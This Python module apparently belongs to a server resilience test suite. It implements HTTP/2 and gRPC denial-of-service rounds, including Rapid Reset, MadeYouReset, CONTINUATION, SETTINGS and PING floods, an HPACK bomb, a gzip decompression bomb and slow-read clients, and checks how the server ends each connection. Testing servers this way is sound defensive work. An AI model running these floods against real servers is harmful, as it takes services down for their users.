"""What hostile clients do. An attack is one round against a server: it returns how the server ended it, a set of error
codes of GOAWAY (None: the connection ended without one), empty when it did not."""
import socket
import struct
import threading
import time
import zlib

from wire import *

ROUND = 200_000  # frames one round may send before the server must have ended it
BATCH = 500


def flood(server, make, before=b"", reads=True, batch=BATCH):
    """Sends `make(index)` as fast as possible, until the server ends the connection or enough has been sent."""
    client = Client(server)
    client.send(before)
    codes = set()
    reader = threading.Thread(target=lambda: codes.update(ending(client)), daemon=True)
    if reads:
        reader.start()
    else:
        client.socket.settimeout(5)
    sent = 0
    try:
        while sent < ROUND and client.send(b"".join(make(sent + index) for index in range(batch))):
            sent += batch
    except OSError:
        pass  # the peer no longer reads
    if not reads:
        return client
    # Where all has been sent, most of it may still be in the sockets.
    reader.join(LIMIT)
    client.close()
    return codes


def paced(server, make):
    """As `flood`, 200 at a time: the server answers a PING before more come, so the limit of streams is kept."""
    client = Client(server)
    sent = 0
    while sent < ROUND:
        client.send(b"".join(make(sent + index) for index in range(200)), ping())
        sent += 200
        if client.until(lambda frame: frame.kind in (PING, GOAWAY)) is None or client.frames[-1].kind == GOAWAY:
            client.close()
            return {frame.code for frame in client.frames if frame.kind == GOAWAY} or {None}
        client.frames.clear()
    client.close()
    return set()


def ending(client):
    """The code of the GOAWAY with which the connection ends."""
    try:
        client.until_end()
    except (OSError, AttributeError):
        pass
    return {next((frame.code for frame in reversed(client.frames) if frame.kind == GOAWAY), None)}


def stream_of(index):
    return 2 * index + 1


WAIT = block(request("Wait"))


def rapid_reset(server):
    """CVE-2023-44487: streams that are reset as soon as they are open."""
    return flood(server, lambda index: frame(HEADERS, END_HEADERS, stream_of(index), WAIT)
                 + data(stream_of(index), message(), end=True) + rst_stream(stream_of(index)))


def made_you_reset(server):
    """CVE-2025-8671: the same, but the server is made to reset them, by windows above 2^31 - 1."""
    return paced(server, lambda index: frame(HEADERS, END_HEADERS, stream_of(index), WAIT)
                 + data(stream_of(index), message(), end=True) + window_update(stream_of(index), 0x7FFFFFFF))


def malformed_requests(server):
    """The same with malformed requests: no field at all."""
    return paced(server, lambda index: frame(HEADERS, END_HEADERS | END_STREAM, stream_of(index)))


def refused_streams(server):
    """The same with more streams than allowed."""
    return flood(server, lambda index: frame(HEADERS, END_HEADERS, stream_of(index), WAIT))


def continuation_flood(server):
    """A header block that never ends, of fields."""
    piece = literal("x-v", "1" * 4_000) * 4
    # 64 KiB at a time: a send of megabytes keeps the kernel of the attacker's own core busy for milliseconds.
    return flood(
        server, lambda index: frame(CONTINUATION, 0, 1, piece), headers(1, request(), end_headers=False), batch=4)


def empty_continuation_flood(server):
    """A header block that never ends, of nothing."""
    return flood(server, lambda index: frame(CONTINUATION, 0, 1), headers(1, request(), end_headers=False))


def settings_flood(server):
    return flood(server, lambda index: settings((INITIAL_WINDOW_SIZE, 65_535 - index % 7)))


def settings_flood_with_open_streams(server):
    """Each changes the windows of 200 streams."""
    streams = b"".join(headers(stream_of(index), request("Chat")) for index in range(200))
    return flood(server, lambda index: settings((INITIAL_WINDOW_SIZE, 65_535 - index % 7)), streams)


def ping_flood(server):
    return flood(server, lambda index: ping(struct.pack(">Q", index)))


def pings_whose_answers_are_not_read(server):
    """The answers pile up on the server; it must stop reading."""
    client = flood(server, lambda index: ping(struct.pack(">Q", index)), reads=False)
    client.close()
    return set()


def empty_data_flood(server):
    return flood(server, lambda index: data(1), headers(1, request("Chat")))


def discarded_data_flood(server):
    """Empty DATA on a stream that the server has answered and reset."""
    return flood(server, lambda index: data(1), headers(1, request("Nothing")))


def padding_flood(server):
    """DATA that is padding alone."""
    return flood(server, lambda index: data(1, padding=1), headers(1, request("Chat")))


def priority_flood(server):
    return flood(server, lambda index: priority(stream_of(index + 1), stream_of(index)))


def window_update_flood(server):
    return flood(server, lambda index: window_update(0, 1))


def unknown_frame_flood(server):
    return flood(server, lambda index: frame(0xEE, 0, 0))


def priority_update_flood(server):
    """RFC 9218: the priority of streams that are not open, each time another."""
    return flood(server, lambda index: frame(0x10, 0, 0, struct.pack(">I", stream_of(index)) + b"u=%d" % (index % 8)))


def altsvc_flood(server):
    return flood(server, lambda index: frame(0xA, 0, 0, b'\0\1xh2=":1"'))


def origin_flood(server):
    return flood(server, lambda index: frame(0xC, 0, 0, b"\0\1x"))


def closed_stream_flood(server):
    """RST_STREAM, repeatedly, of a stream that ended long ago."""
    return flood(server, lambda index: rst_stream(1), headers(1, request("Chat")) + rst_stream(1))


def hpack_bomb(server):
    """4 kB in the table, then 12,000 references of one byte each: 48 MB of fields."""
    bomb = block(request()) + literal("a", "v" * 4_000, first=0x40) + b"\xbe" * 12_000
    return flood(server, lambda index: frame(HEADERS, END_HEADERS, stream_of(index), bomb), batch=10)


def oversized_metadata(server):
    """Headers of 60 kB and of 1,000 fields: each is answered with RESOURCE_EXHAUSTED."""
    for more in ([(f"x-{index}", "v" * 6_000) for index in range(10)], [(f"x-{index}", "v") for index in range(1_000)]):
        client = Client(server)
        raw = block(request("Unary", *more))
        client.send(frame(HEADERS, 0, 1, raw[:16_384]),
                    *[frame(CONTINUATION, 0, 1, raw[begin:begin + 16_384]) for begin in range(16_384, len(raw), 16_384)],
                    frame(CONTINUATION, END_HEADERS, 1), data(1, message(b"x"), end=True))
        fields, _ = client.answer(1)
        assert fields.get("grpc-status") == "8", fields
        client.close()
    return set()


def decompression_bomb(server):
    """64 MiB of zeros in 64 kB of gzip, on many streams."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(64)) + packer.flush()
    client = Client(server, settings((INITIAL_WINDOW_SIZE, 1 << 20)))
    fields = request("Unary", ("grpc-encoding", "gzip"))
    for stream in range(1, 17, 2):
        # The windows come back as the server reads.
        client.send(headers(stream, fields))
        body, room = message(packed, 1), 65_535
        while body:
            piece, body = body[:min(room, 16_384)], body[min(room, 16_384):]
            client.send(data(stream, piece, end=not body))
            room -= len(piece)
            while room < 16_384 and body:
                update = client.until(lambda frame: frame.stream == stream)
                if update.kind != WINDOW_UPDATE:
                    body = b""  # answered already
                    break
                room += struct.unpack(">I", update.payload)[0]
        answer, _ = client.answer(stream)
        assert answer.get("grpc-status") == "8", answer
    client.close()
    return set()


def half_messages(server, ends=True):
    """On many streams most of a message of 4 MiB, and never the rest: beyond what one connection may hold the calls fail."""
    client = Client(server)
    threading.Thread(target=lambda: ending(client), daemon=True).start()
    part = struct.pack(">BI", 0, 4 << 20) + bytes(16_000)
    for stream in range(1, 101, 2):
        client.send(headers(stream, request()), data(stream, part))
    # A hostile client ignores the windows: more than they allow ends the connection.
    for _ in range(60):
        for stream in range(1, 101, 2):
            if not client.send(data(stream, bytes(16_384))):
                return None
    if not ends:
        return client
    client.close()
    return set()


def half_messages_of_many(server):
    """The same on eight connections at a time, which stay."""
    clients = []
    threads = [threading.Thread(target=lambda: clients.append(half_messages(server, ends=False))) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for client in clients:
        if client:
            client.close()
    return set()


def answers_that_are_not_read(server):
    """Calls with 128 answers of 512 KiB, for which there is no window."""
    client = Client(server, settings((INITIAL_WINDOW_SIZE, 0)))
    threading.Thread(target=lambda: ending(client), daemon=True).start()
    body = message(bytes(1 << 19))
    for first in range(0, 128, 16):
        streams = [stream_of(index) for index in range(first, first + 16)]
        client.send(*[headers(stream, request()) for stream in streams])
        # In turns, so that no stream is credited more at a time than its window.
        for begin in range(0, len(body), 16_384):
            end = begin + 16_384
            client.send(*[data(stream, body[begin:end], end=end >= len(body)) for stream in streams])
    client.close()
    return set()


def never_reading(server):
    """Asks for far more than fits into the socket, and does not read it."""
    client = Client(server, settings((INITIAL_WINDOW_SIZE, 0x7FFFFFFF)) + window_update(0, 0x7FFFFFFF - 65_535))
    for index in range(200):
        client.send(headers(stream_of(index), request("Expand")),
                    data(stream_of(index), message(b"1000 16384"), end=True))
    return client


def zero_window(server):
    """Asks for answers and never opens a window for them."""
    client = Client(server, settings((INITIAL_WINDOW_SIZE, 0)))
    for index in range(200):
        client.send(headers(stream_of(index), request("Expand")),
                    data(stream_of(index), message(b"1000 16384"), end=True))
    return client


def slow_headers(server):
    """A header block that is never finished."""
    client = Client(server)
    client.acknowledges = False  # inside of a header block it would be an error
    client.send(headers(1, request(), end_headers=False))
    return client


def slow_frame(server):
    """A HEADERS frame of which a byte is missing."""
    client = Client(server)
    client.acknowledges = False  # it would be the missing byte
    client.send(headers(1, request())[:-1])
    return client


def slow_body(server):
    """A message that is never finished, a body that never ends."""
    client = Client(server)
    client.send(headers(1, request()), data(1, message(bytes(100))[:50]))
    client.send(headers(3, request("Chat")), data(3, message(bytes(100))[:50]))
    client.send(headers(5, request()), data(5, message()))
    return client


def silent(server):
    """A connection on which nothing is sent, not even the preface."""
    return Client(server, begin=False)


def idle(server):
    """A connection that has been used once and is kept."""
    client = Client(server)
    client.send(headers(1, request()), data(1, message(b"x"), end=True))
    client.answer(1)
    return client


def churn(server):
    """Connects, calls, disappears; some without sending anything, some in the middle of a frame."""
    for index in range(50):
        if index % 5 == 0:
            silent(server).close()
        elif index % 5 == 1:
            slow_frame(server).close()
        else:
            idle(server).close()
    return set()


FLOODS = [rapid_reset, made_you_reset, malformed_requests, refused_streams, continuation_flood, empty_continuation_flood,
          settings_flood, settings_flood_with_open_streams, ping_flood, empty_data_flood, discarded_data_flood, padding_flood,
          priority_flood, window_update_flood, unknown_frame_flood, priority_update_flood, altsvc_flood, origin_flood,
          closed_stream_flood, hpack_bomb]
ROUNDS = [*FLOODS, pings_whose_answers_are_not_read, oversized_metadata, half_messages, decompression_bomb, churn]


def play(attack, server, seconds):
    """Repeats the attack for this long; without an attack it keeps its own core as busy."""
    end, held = time.monotonic() + seconds, []
    while time.monotonic() < end:
        if attack is None:
            sum(range(1_000))
        elif len(held) == 8:
            time.sleep(0.01)
        else:
            client = attack(server)
            # A flood is over when it returns; held connections are held to the end.
            held += [client] if isinstance(client, Client) else []
    for client in held:
        client.close()
    return "done"
